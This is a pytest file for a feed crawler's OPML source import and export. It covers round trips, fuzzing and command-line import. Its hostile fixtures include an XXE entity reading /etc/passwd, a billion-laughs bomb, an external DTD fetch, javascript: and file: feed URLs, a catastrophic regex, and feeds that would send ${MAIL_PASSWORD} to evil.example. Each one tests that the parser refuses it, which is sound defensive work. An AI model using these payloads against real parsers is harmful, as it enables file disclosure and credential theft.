"""Sources as OPML: there and back, what others wrote, and what is no OPML at all."""

from __future__ import annotations

import json
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from crawler.seeds import load_sources
from crawler.settings import Feed, Source
from scheduler.errors import ReadError
from scheduler.new_seeds import faults_in, span_of, table_of, text_of, write_new
from scheduler.opml import MOST_BYTES, MOST_OUTLINES, read, written
from tests.catalogue import bundled
from tests.running import Desk

BRIDGE = """<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0"><head><title>公众号</title></head><body>
<outline text="甬凉" title="甬凉"><outline text="凉山发布" type="rss" xmlUrl="http://127.0.0.1:8080/feed/1.xml"/>
<outline title="宁波发布" type="rss" xmlUrl="http://127.0.0.1:8080/feed/2.xml" htmlUrl="http://x"/>
<outline><outline><outline text="Local News" xmlUrl="https://news.example/rss"/></outline></outline>
</outline><outline text="没有网址"/><outline text="脚本" xmlUrl="javascript:alert(1)"/>
<outline text="文件" xmlUrl="file:///etc/passwd"/></body></opml>"""


def loaded(folder: Path, data: bytes) -> list[Source]:
    """The seeds of a file, as the watch reads them."""
    write_new(folder, ((table["id"], text_of(table)) for table in read(data)))
    return load_sources([folder])


def test_the_catalogue_goes_there_and_back(tmp_path: Path) -> None:
    """Every key of every bundled seed, but former names."""
    data = written(bundled(), "甬凉观察")
    assert b"<!DOCTYPE" not in data
    back = {source.id: source for source in loaded(tmp_path, data)}
    assert back == {source.id: source for source in bundled()}


def test_a_reader_of_feeds_finds_the_feeds() -> None:
    feeds = (
        Feed(kind="rss", url="https://a.example/rss"),
        Feed(kind="listing", url="https://a.example/"),
    )
    one = Source(id="one", name="一 & <二>", feeds=feeds[:1])
    two = Source(id="two", name="二", feeds=feeds)
    root = etree.fromstring(written([one, two], "x"))
    assert [each.get("xmlUrl") for each in root.iterfind(".//outline[@type='rss']")] == [
        "https://a.example/rss"
    ] * 2
    assert [each.get("text") for each in root.iterfind("body/outline")] == ["一 & <二>", "二"]
    assert root.find(".//outline[@type='link']").get("url") == "https://a.example/"


def test_what_a_bridge_wrote() -> None:
    tables = list(read(BRIDGE.encode(), page="wechat", bridge=True))
    assert [(table["name"], table["feeds"][0]["url"]) for table in tables] == [
        ("凉山发布", "http://127.0.0.1:8080/feed/1.xml"),
        ("宁波发布", "http://127.0.0.1:8080/feed/2.xml"),
        ("Local News", "https://news.example/rss"),
    ]
    assert [table["id"] for table in tables][2] == "local-news"
    assert len({table["id"] for table in tables}) == 3
    for table in tables:
        assert (table["page"], table["bridge"], table["verified"]) == ("wechat", True, False)
        assert not faults_in(text_of(table), table["id"])


SECRETS = ("headers", "cookies", "proxy", "was", "paused")


def test_what_is_of_one_archive_or_secret_does_not_travel() -> None:
    source = Source(
        id="one",
        name="一",
        was=("old",),
        paused=True,
        feeds=(Feed(kind="rss", url="http://a.example/"),),
    )
    assert {"was", "paused"} <= set(table_of(source))
    (table,) = read(written([source], "x"))
    assert not set(SECRETS) & set(table)


NAMES = st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=40).filter(
    lambda text: bool(text.strip())
)
ADDRESSES = st.from_regex(
    r"https?://[a-z]{1,9}\.example/[a-z0-9?=&;%<>'\"{}-]{0,30}", fullmatch=True
)
FEEDS = st.builds(
    Feed,
    kind=st.sampled_from(["rss", "listing", "sitemap", "epaper"]),
    url=ADDRESSES.filter(lambda url: "{" not in url and "%" not in url),
    depth=st.integers(1, 9),
    max_age_days=st.none() | st.integers(1, 99),
)
SOURCES = st.lists(
    st.builds(
        Source,
        id=st.from_regex(r"[a-z][a-z0-9-]{0,20}", fullmatch=True).filter(
            lambda text: text != "added"
        ),
        name=NAMES,
        tier=st.sampled_from(["central", "county", "other"]),
        page=st.sampled_from(["generic", "wechat"]),
        article_url=st.lists(st.sampled_from([r"^https?://a\.b/\d+$", r"/c/\w+"]), max_size=2).map(
            tuple
        ),
        every_s=st.sampled_from([1.0, 90.0, 600.0, 3600.0, 86400.0]),
        feeds=st.lists(FEEDS, min_size=1, max_size=3).map(tuple),
        verified=st.booleans(),
        bridge=st.booleans(),
        delay_s=st.none() | st.integers(0, 9).map(float),
    ),
    min_size=1,
    max_size=4,
    unique_by=lambda source: source.id,
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(SOURCES)
def test_there_and_back(tmp_path_factory: pytest.TempPathFactory, sources: list[Source]) -> None:
    data = written(sources, "x")
    back = loaded(tmp_path_factory.mktemp("seeds"), data)
    assert sorted((one.id, one.feeds, one.article_url, one.bridge) for one in back) == sorted(
        (one.id, one.feeds, one.article_url, one.bridge) for one in sources
    )
    again = written(
        sorted(back, key=lambda one: [source.id for source in sources].index(one.id)), "x"
    )
    assert list(read(again)) == list(read(data))


@settings(max_examples=300, deadline=None)
@given(
    st.binary(max_size=300)
    | st.text(max_size=200).map(lambda text: text.encode("utf-8", "replace"))
    | st.text("<>/=\"' oplmbdyutineURx", max_size=300).map(
        lambda text: f"<opml><body>{text}</body></opml>".encode()
    )
)
def test_any_bytes_are_read_or_refused_in_one_line(data: bytes) -> None:
    try:
        tables = list(read(data))
    except ReadError as refused:
        lines = refused.zh + refused.en
    else:
        lines = "".join(str(table["id"]) for table in tables)
    assert "\n" not in lines


ENTITIES = '<!DOCTYPE opml [{}]><opml version="2.0"><body><outline text="{}" xmlUrl="https://a.example/"/></body></opml>'
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha" * 10}">' for n in range(12))
HOSTILE = {
    "not xml": b"\x00\x01",
    "empty": b"",
    "html": b"<!DOCTYPE html><html><body>login</body></html>",
    "another root": b"<rss><body/></rss>",
    "no body": b"<opml version='2.0'/>",
    "laughs": ENTITIES.format(LAUGHS, "&a11;").encode(),
    "an entity": ENTITIES.format('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;").encode(),
    "a dtd": b'<!DOCTYPE opml SYSTEM "http://127.0.0.1:9/x.dtd"><opml><body/></opml>',
    "deep": b"<opml><body>" + b"<outline>" * 100_000,
    "deep and closed": b"<opml><body>"
    + b"<outline>" * 5_000
    + b"</outline>" * 5_000
    + b"</body></opml>",
    "many": b"<opml><body>" + b"<outline/>" * (MOST_OUTLINES + 1) + b"</body></opml>",
    "large": b"<opml><body>" + b" " * MOST_BYTES + b"</body></opml>",
}


@pytest.mark.parametrize("what", HOSTILE)
def test_what_is_no_opml_is_refused(what: str) -> None:
    tracemalloc.start()
    try:
        with pytest.raises(ReadError) as refused:
            list(read(HOSTILE[what]))
        assert tracemalloc.get_traced_memory()[1] < 50_000_000
    finally:
        tracemalloc.stop()
    assert "\n" not in refused.value.en


@pytest.mark.parametrize(
    "own", ["[]", "{", '{"id": "../../x"}', '{"id": 7}', '{"id": "' + "a" * 999 + '"}', "[" * 9999]
)
def test_bad_words_of_our_own_are_passed_over(own: str) -> None:
    root = etree.Element("opml")
    outline = etree.SubElement(etree.SubElement(root, "body"), "outline")
    outline.set("{urn:yongliang:seed}source", own)
    assert [*read(etree.tostring(root))] == []
    outline.set("xmlUrl", "https://a.example/rss")
    (table,) = read(etree.tostring(root))
    assert table["verified"] is False


def test_a_span_is_said_with_its_unit() -> None:
    """A bare 90.0 in a list tells nobody whether it is seconds."""
    assert [span_of(n) for n in (0.5, 1.0, 90.0, 600.0, 7200.0)] == [0.5, "1s", "90s", "10m", "2h"]


# The command


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    desk = Desk(tmp_path)
    (tmp_path / "own.toml").write_text(
        'id = "own"\nname = "自家"\nverified = false\n[[feeds]]\nkind = "rss"\n'
        'url = "http://127.0.0.1:8080/feed/1.xml"\n',
        encoding="utf-8",
    )
    desk.write('[seeds]\nsources = ["own.toml"]\n')
    return desk


def test_the_command_lists_writes_and_reads(desk: Desk) -> None:
    assert desk.run("sources", "--json").lines()[0]["verified"] is False
    assert "unverified" in desk.run("sources").out
    assert desk.run("sources", "list").out == desk.run("sources").out
    assert desk.run("sources", "list", "--json").out == desk.run("sources", "--json").out
    shown = desk.run("--lang", "zh", "sources").out
    assert "其他" in shown
    assert "未核实" in shown
    assert desk.run("sources", "--opml", "-o", "own.opml").code == 0
    assert (desk.folder / "own.opml").read_bytes() == desk.run("sources", "--opml").out.encode()
    (desk.folder / "bridge.opml").write_text(BRIDGE, encoding="utf-8")
    done = desk.run("sources", "import", "bridge.opml", "-o", "new", "--page", "wechat", "--bridge")
    assert done.code == 0, done.err
    assert "http://127.0.0.1:8080/feed/1.xml" in done.err  # is a source already
    made = load_sources([desk.folder / "new"])
    assert {(one.name, one.page, one.bridge) for one in made} == {
        ("宁波发布", "wechat", True),
        ("Local News", "wechat", True),
    }
    again = desk.run("sources", "import", "bridge.opml", "-o", "new")
    assert (again.code, again.err.count("\n")) == (2, 2)  # nothing is overwritten
    assert load_sources([desk.folder / "new"]) == made


def test_a_bad_file_is_one_line(desk: Desk) -> None:
    (desk.folder / "bad.opml").write_text("<html>", encoding="utf-8")
    done = desk.run("sources", "import", "bad.opml", "-o", "new")
    assert (done.code, done.out, done.err.count("\n")) == (1, "", 1)
    assert not (desk.folder / "new").exists()
    assert desk.run("sources", "import", "none.opml", "-o", "new").code == 1


def test_a_hostile_file_is_a_line_for_each_seed_that_is_none(desk: Desk) -> None:
    root = etree.Element("opml")
    body = etree.SubElement(root, "body")
    for name, own, feed in (
        ("nothing", '{"id": "nothing", "name": null}', '{"kind": null}'),
        (
            "nested",
            '{"id": "nested", "known": [1], "zone": {"a": null}}',
            '{"kind": {"a": [null]}}',
        ),
        (
            "pattern",
            '{"id": "pattern", "article_url": ["("]}',
            '{"kind": "rss", "url": "http://a/"}',
        ),
        (
            "hidden",
            '{"id": "hidden", "name": "a\\u202eb\\nc", "article_url": ["(a+)+$"]}',
            '{"kind": "rss", "url": "http://b/"}',
        ),
    ):
        outline = etree.SubElement(body, "outline", {"text": name})
        outline.set("{urn:yongliang:seed}source", own)
        outline.set("{urn:yongliang:seed}feed", feed)
    (desk.folder / "bad.opml").write_bytes(etree.tostring(root))
    done = desk.run("sources", "import", "bad.opml", "-o", "new")
    assert done.code == 0, done.err
    (made,) = load_sources([desk.folder / "new"])
    assert (made.id, made.name) == ("hidden", "ab c")
    assert "Traceback" not in done.err
    assert "(a+)+$ in article_url may take very long" in done.err
    assert all(name in done.err for name in ("nothing", "nested", "pattern"))


@pytest.mark.parametrize(
    ("own", "feed"),
    [
        ('{"id": "evil", "name": "e", "user_agent": "x ${MAIL_PASSWORD}"}', {}),
        ('{"id": "evil", "name": "e"}', {"body": "k=${MAIL_PASSWORD}", "method": "POST"}),
    ],
)
def test_a_file_makes_no_seed_that_sends_what_the_environment_holds(
    desk: Desk, own: str, feed: dict[str, str]
) -> None:
    """Its hosts are the file's own: a secret of ours would go straight to whoever wrote it."""
    address = "https://evil.example/"
    hostile = {"kind": "api", "url": address, "headers": {"X": "${MAIL_PASSWORD}"}, **feed}
    _import_into(desk, own, hostile)
    done = desk.run("sources", "import", "evil.opml", "-o", "new")
    assert done.code == 1
    assert "${MAIL_PASSWORD}" in done.err
    assert not (desk.folder / "new").exists()


def test_headers_of_a_file_s_feed_are_left_out(desk: Desk) -> None:
    feed = {"kind": "api", "url": "https://a.example/", "headers": {"X": "${MAIL_PASSWORD}"}}
    _import_into(desk, '{"id": "plain", "name": "p"}', feed)
    assert desk.run("sources", "import", "evil.opml", "-o", "new").code == 0
    (made,) = load_sources([desk.folder / "new"])
    assert made.feeds[0].headers is None


def _import_into(desk: Desk, own: str, feed: dict[str, Any]) -> None:
    root = etree.Element("opml")
    outline = etree.SubElement(etree.SubElement(root, "body"), "outline", {"text": "e"})
    outline.set("{urn:yongliang:seed}source", own)
    outline.set("{urn:yongliang:seed}feed", json.dumps(feed))
    (desk.folder / "evil.opml").write_bytes(etree.tostring(root))
